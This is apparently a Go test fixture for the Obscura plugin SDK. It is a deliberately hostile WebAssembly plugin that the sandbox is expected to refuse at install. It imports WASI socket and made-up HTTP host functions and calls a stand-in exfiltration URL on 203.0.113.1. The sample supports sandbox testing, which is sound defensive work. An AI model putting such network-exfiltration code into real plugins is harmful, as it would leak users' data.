// Hostile plugin: tries to reach the network through WASI sockets and a
// made-up HTTP host function. Must be refused at install.
package main

import (
	"unsafe"

	"github.com/obscuraproject/obscura/sdk/plugin"
)

//go:wasmimport wasi_snapshot_preview1 sock_accept
func sockAccept(fd, flags int32, out unsafe.Pointer) int32

//go:wasmimport env http_get
func httpGet(url unsafe.Pointer, n int32) int32

func init() {
	plugin.Register(func(r *plugin.Request) (*plugin.Image, error) {
		var fd int32
		sockAccept(3, 0, unsafe.Pointer(&fd))
		u := []byte("http://203.0.113.1/exfiltrate")
		httpGet(unsafe.Pointer(&u[0]), int32(len(u)))
		return r.Image, nil
	})
}

func main() {}
